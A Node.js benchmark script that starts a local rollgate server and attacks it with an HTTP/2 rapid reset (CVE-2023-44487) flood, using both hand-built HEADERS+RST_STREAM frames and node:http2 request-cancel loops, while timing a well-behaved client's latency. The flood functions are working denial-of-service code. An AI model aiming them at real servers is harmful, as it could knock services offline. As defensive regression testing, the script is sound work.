#!/usr/bin/env node
// `node bench/rapid-reset.mjs [--before DIR] [--runs 3]`: HTTP/2 rapid reset (CVE-2023-44487)
// against a fresh server, while a well-behaved node:http2 client calls Route in two loops; the
// client's p50/p99/max during each attack, and what the attacker got back (GOAWAY code, last
// stream id, when the connection closed). Two attacks: raw frames (10,000 HEADERS+RST_STREAM
// pairs, 500 a write) and node:http2's client (request then close(CANCEL), 3,000 times).
// With --before DIR (a built checkout, e.g. main), that checkout's server runs the same
// attacks, interleaved with this one's, in the same minutes. The well-behaved calls are timed over
// the same 5 s window from each attack's start. Loopback only; prints a Markdown table.
import { spawn } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import http2 from "node:http2";
import { connect as netConnect } from "node:net";
import { loadavg, tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";

const root = fileURLToPath(new URL("..", import.meta.url));
const arg = (name, def) => {
  const i = process.argv.indexOf(`--${name}`);
  return i < 0 ? def : process.argv[i + 1];
};
const runs = Number(arg("runs", "3"));
const before = arg("before", undefined);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
/** Route calls are timed from 100 ms before each attack until this long after it started. */
const WINDOW_MS = 5000;

/** Starts `rollgate serve` from a checkout; resolves with its address and a stop function. */
async function serve(dir) {
  const db = mkdtempSync(join(tmpdir(), "rollgate-rr-"));
  const child = spawn(process.execPath, [join(dir, "dist/src/cli/main.js"), "serve", "--listen", "127.0.0.1:0", "--db", join(db, "r.db")], { stdio: ["ignore", "pipe", "ignore"], env: { ...process.env, LOG_LEVEL: "info" } });
  const address = await new Promise((resolve, reject) => {
    let addr;
    child.once("exit", () => reject(new Error("server exited")));
    createInterface({ input: child.stdout }).on("line", (line) => {
      try {
        const e = JSON.parse(line);
        if (e.msg === "listening") addr = e.address;
        if (e.msg === "ready" && addr !== undefined) resolve(addr);
      } catch {}
    });
  });
  const res = await fetch(`http://${address}/rollgate.v1.RolloutService/CreateRollout`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ rollout: { name: "abuse", stableVersion: "v1", canaryVersion: "v2" }, reason: "rapid reset bench" }) });
  if (res.status !== 200) throw new Error(`CreateRollout: ${res.status}`);
  return {
    address,
    async stop() {
      child.kill("SIGTERM");
      await new Promise((r) => child.once("exit", r));
      rmSync(db, { recursive: true, force: true });
    },
  };
}

const frame = (type, flags, id, payload = Buffer.alloc(0)) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h.writeUInt8(type, 3);
  h.writeUInt8(flags, 4);
  h.writeUInt32BE(id, 5);
  return Buffer.concat([h, payload]);
};
const hstr = (s) => Buffer.concat([Buffer.from([s.length]), Buffer.from(s, "latin1")]); // all < 127 bytes
const hpack = (hs) => Buffer.concat(hs.flatMap(([n, v]) => [Buffer.from([0x10]), hstr(n), hstr(v)]));
const ROUTE = "/rollgate.v1.DecisionService/Route";

/** Raw frames: 20 writes of 500 HEADERS+RST_STREAM(CANCEL) pairs, 5 ms apart. */
async function rawAttack(address) {
  const [host, port] = address.split(":");
  const block = hpack([[":method", "POST"], [":scheme", "http"], [":path", ROUTE], [":authority", address], ["content-type", "application/grpc"], ["te", "trailers"]]);
  const s = netConnect({ host, port: Number(port) });
  await new Promise((r) => s.once("connect", r));
  const t0 = performance.now();
  const out = { goaway: undefined, last: undefined, closedMs: undefined };
  let got = Buffer.alloc(0);
  s.on("data", (d) => {
    got = Buffer.concat([got, d]);
    for (let at = 0; at + 9 <= got.length; ) {
      const len = got.readUIntBE(at, 3);
      if (at + 9 + len > got.length) break;
      if (got[at + 3] === 7 && out.goaway === undefined) {
        out.last = got.readUInt32BE(at + 9) & 0x7fffffff;
        out.goaway = got.readUInt32BE(at + 13);
      }
      at += 9 + len;
    }
  });
  s.on("error", () => {});
  const closed = new Promise((r) => s.once("close", () => r((out.closedMs = Math.round(performance.now() - t0)))));
  s.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1"), frame(4, 0, 0)]));
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(8);
  for (let round = 0, id = 1; round < 20 && !s.destroyed; round++) {
    const fr = [];
    for (let i = 0; i < 500; i++, id += 2) fr.push(frame(1, 4, id, block), frame(3, 0, id, rst));
    s.write(Buffer.concat(fr));
    await sleep(5);
  }
  await Promise.race([closed, sleep(3000)]);
  const result = { ...out };
  s.destroy();
  return result;
}

/** node:http2's client: request() then close(NGHTTP2_CANCEL), 3,000 times, a pause every 200. */
async function clientAttack(address) {
  const a = http2.connect(`http://${address}`);
  a.on("error", () => {});
  const t0 = performance.now();
  const out = { goaway: undefined, last: undefined, closedMs: undefined };
  a.on("goaway", (code, last) => {
    out.goaway ??= code;
    out.last ??= last;
  });
  const closed = new Promise((r) => a.once("close", () => r((out.closedMs = Math.round(performance.now() - t0)))));
  for (let i = 0; i < 3000 && !a.destroyed && !a.closed; i++) {
    try {
      const r = a.request({ ":method": "POST", ":path": ROUTE, "content-type": "application/grpc", te: "trailers" });
      r.on("error", () => {});
      r.close(http2.constants.NGHTTP2_CANCEL);
    } catch {
      break;
    }
    if (i % 200 === 0) await sleep(1);
  }
  await Promise.race([closed, sleep(3000)]);
  const result = { ...out };
  a.destroy();
  return result;
}

/** Runs `attack` while two loops of a well-behaved client call Route; returns its figures. */
async function measure(address, attack) {
  const good = http2.connect(`http://${address}`);
  good.on("error", () => {});
  const body = Buffer.from([0, 0, 0, 0, 0]);
  const lat = [];
  let errors = 0;
  let stop = false;
  const call = () =>
    new Promise((resolve) => {
      const t = performance.now();
      const r = good.request({ ":method": "POST", ":path": ROUTE, "content-type": "application/grpc", te: "trailers" });
      let status;
      r.on("trailers", (h) => (status = h["grpc-status"]));
      r.on("response", (h) => (status ??= h["grpc-status"]));
      r.resume();
      r.on("error", () => {});
      r.on("close", () => {
        if (status === undefined) errors++;
        else lat.push(performance.now() - t);
        resolve();
      });
      r.end(body);
    });
  const loop = async () => {
    while (!stop) await call();
  };
  await call(); // the connection is up before the attack starts
  const loops = [loop(), loop()];
  await sleep(100);
  // The same window for every build: the attack, then the rest of WINDOW_MS from its start.
  const t0 = performance.now();
  const got = await attack(address);
  await sleep(Math.max(0, WINDOW_MS - (performance.now() - t0)));
  stop = true;
  await Promise.all(loops);
  good.close();
  const s = lat.sort((x, y) => x - y);
  const q = (p) => (s.length === 0 ? 0 : Math.round(s[Math.min(s.length - 1, Math.floor(p * s.length))] * 10) / 10);
  return { calls: s.length, errors, p50: q(0.5), p99: q(0.99), max: q(1), ...got };
}

const builds = before === undefined ? [["this", root]] : [["before", before], ["after", root]];
const rows = [];
for (let r = 0; r < runs; r++) {
  for (const [name, dir] of builds) {
    const srv = await serve(dir);
    try {
      for (const [kind, attack] of [["raw frames", rawAttack], ["node:http2 client", clientAttack]]) {
        const load = loadavg()[0].toFixed(1);
        const f = await measure(srv.address, attack);
        rows.push({ build: name, run: r + 1, kind, load, ...f });
        console.error(JSON.stringify(rows.at(-1)));
      }
    } finally {
      await srv.stop();
    }
  }
}
console.log("| build | run | attack | load | Route calls | errors | p50 ms | p99 ms | max ms | attacker's GOAWAY (code, last stream) | attacker closed after |");
console.log("|---|---|---|---|---|---|---|---|---|---|---|");
for (const x of rows) {
  const code = x.goaway === undefined ? "none" : `${x.goaway === 11 ? "ENHANCE_YOUR_CALM" : x.goaway === 2 ? "INTERNAL_ERROR" : x.goaway}, ${x.last}`;
  console.log(`| ${x.build} | ${x.run} | ${x.kind} | ${x.load} | ${x.calls} | ${x.errors} | ${x.p50} | ${x.p99} | ${x.max} | ${code} | ${x.closedMs === undefined ? "open after 3 s" : `${x.closedMs} ms`} |`);
}
